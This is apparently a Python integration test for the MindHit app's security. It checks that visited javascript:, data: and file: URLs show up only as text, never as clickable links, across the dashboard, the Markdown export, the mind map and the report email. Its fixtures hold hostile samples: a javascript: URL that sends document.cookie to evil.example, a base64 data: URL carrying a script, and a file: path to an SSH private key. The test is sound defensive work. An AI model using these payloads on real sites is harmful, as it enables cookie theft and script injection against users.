"""Recorded URLs that are not web pages never become links.

A visited ``javascript:`` or ``data:`` URL (whatever a browser shows in a tab) ends up in
the victim's read tables exactly as the projector writes them. Then the victim's own
dashboard pages, the Markdown export, the mind map island (real Chromium) and the session
report email (the processors' real reporter, a real SMTP server) must show it as text:
one click on such a link would run script or show attacker-made content under MindHit's
name.
"""

from __future__ import annotations

import asyncio
import json
import re
import shutil
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest

from mindhit.settings import Settings
from processors.report import reporter_from_settings
from schema.derived import MindmapBuilt, MindmapNode, SessionClosed, SessionPage
from tests.integration.processors.report.mail import SmtpServer
from tests.integration.web.conftest import add_session
from tests.security._web import ARTIFACTS, Browser, WebServer, running_web, unique_email
from tests.support.servers import free_port

pytestmark = [pytest.mark.integration, pytest.mark.slow]

SCRIPT_URL = "javascript:fetch('//evil.example/?c='+document.cookie)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
FILE_URL = "file:///home/victim/.ssh/id_ed25519"
WEB_URL = "https://quokka.example/facts"
VISITS = [
    {"url": SCRIPT_URL, "title": "Quokka script page", "domain": "", "text": "quokka one"},
    {"url": DATA_URL, "title": "Quokka data page", "domain": "", "text": "quokka two"},
    {"url": FILE_URL, "title": "Quokka file page", "domain": "", "text": "quokka three"},
    {"url": WEB_URL, "title": "Quokka facts", "domain": "quokka.example", "text": "quokka four"},
]
MAP = {
    "label": "Quokkas",
    "children": [
        {
            "label": "Pages",
            "children": [
                {"label": v["title"], "url": v["url"], "weight_ms": 60_000} for v in VISITS
            ],
        }
    ],
}
_HREF = re.compile(r'href="([^"]*)"')


@pytest.fixture(scope="module")
def web(redis_url: str, database_url: str) -> Iterator[WebServer]:
    """The dashboard."""
    with running_web(redis_url, database_url) as server:
        yield server


def _plant(database_url: str, email: str) -> tuple[str, str]:
    async def go() -> tuple[str, str]:
        async with await psycopg.AsyncConnection.connect(database_url, autocommit=True) as conn:
            cur = await conn.execute("SELECT user_id::text FROM users WHERE email = %s", (email,))
            row = await cur.fetchone()
            assert row is not None
            visits = [
                {**v, "url_hash": uuid.uuid4().hex, "content_hash": uuid.uuid4().hex * 2}
                for v in VISITS
            ]
            return row[0], await add_session(conn, row[0], visits=visits, mindmap=MAP)

    return asyncio.run(go())


def _web_only(hrefs: list[str]) -> list[str]:
    return [h for h in hrefs if not h.startswith(("/", "https://", "http://"))]


def test_the_dashboard_and_its_exports_link_only_web_pages(
    web: WebServer, database_url: str
) -> None:
    victim = Browser(web.url, source="127.0.0.40")
    email = unique_email("links")
    assert victim.sign_up(email).status_code == 303
    _, session_id = _plant(database_url, email)

    for path in (f"/sessions/{session_id}", f"/sessions/{session_id}/map", "/search?q=quokka"):
        page = victim.page(path)
        assert page.status_code == 200, path
        assert _web_only(_HREF.findall(page.text)) == [], path
        assert f'href="{WEB_URL}"' in page.text, path
        assert "Quokka script page" in page.text, path  # still shown, as text

    markdown = victim.client.get(f"/sessions/{session_id}/map.md")
    assert markdown.status_code == 200
    links = re.findall(r"\]\(<([^>]*)>\)", markdown.text)
    assert links == [WEB_URL]
    assert "Quokka data page" in markdown.text and "](<data:" not in markdown.text

    node = shutil.which("node")
    assert node, "node is required for the mind map island check"
    seen = subprocess.run(
        [
            node,
            str(Path(__file__).parent / "map_links.mjs"),
            json.dumps(
                {
                    "baseUrl": web.url,
                    "path": f"/sessions/{session_id}/map",
                    "cookies": [{"name": k, "value": v} for k, v in victim.client.cookies.items()],
                    "artifacts": str(ARTIFACTS),
                }
            ),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    result: dict[str, Any] = json.loads(seen.stdout.strip().splitlines()[-1])
    assert result["errors"] == [], result
    assert sorted(result["texts"]) == sorted(v["title"] for v in VISITS), result["texts"]
    assert result["hrefs"] == [WEB_URL]


def test_the_session_report_links_only_web_pages(database_url: str) -> None:
    smtp = SmtpServer(free_port()).start()
    try:
        email = unique_email("report-links")

        async def reader() -> str:
            async with await psycopg.AsyncConnection.connect(database_url, autocommit=True) as conn:
                cur = await conn.execute(
                    "INSERT INTO users (user_id, email, email_confirmed_at)"
                    " VALUES (gen_random_uuid(), %s, now()) RETURNING user_id::text",
                    (email,),
                )
                row = await cur.fetchone()
                assert row is not None
                await conn.execute(
                    "INSERT INTO user_settings (user_id, email_reports) VALUES (%s, true)",
                    (row[0],),
                )
                return str(row[0])

        user_id = asyncio.run(reader())
        pages = [
            SessionPage(
                url_hash=str(i), url=v["url"], title=v["title"], domain="x", dwell_ms=60_000
            )
            for i, v in enumerate(VISITS)
        ]
        closed = SessionClosed(
            user_id=user_id,
            session_id=str(uuid.uuid4()),
            started_ts=1_764_151_200_000,
            stopped_ts=1_764_151_500_000,
            active_ms=240_000,
            page_count=4,
            domain_count=2,
            pages=pages,
        )
        leaves = [MindmapNode(label=p.title, url=p.url, weight_ms=60_000) for p in pages]
        built = MindmapBuilt(
            user_id=user_id,
            session_id=closed.session_id,
            root=MindmapNode(label="Quokkas", children=[MindmapNode(label="All", children=leaves)]),
            provider="local",
            built_ts=0,
        )
        settings = Settings.from_env({}, smtp_url=smtp.url, public_url="https://mh.example")
        reporter = reporter_from_settings(settings, database_url)
        assert reporter is not None and asyncio.run(reporter(closed, built)) is True
        [mail] = smtp.inbox.to(email)
        html = mail.get_body(("html",))
        assert html is not None
        body = html.get_content()
        hrefs = _HREF.findall(body)
        assert [h for h in hrefs if not h.startswith("https://")] == [], hrefs
        assert hrefs.count(WEB_URL) == 2  # top pages and mind map
        assert "Quokka script page" in body and "Quokka data page" in body
        text = mail.get_body(("plain",))
        assert text is not None and "<javascript:" not in text.get_content()
    finally:
        smtp.stop()
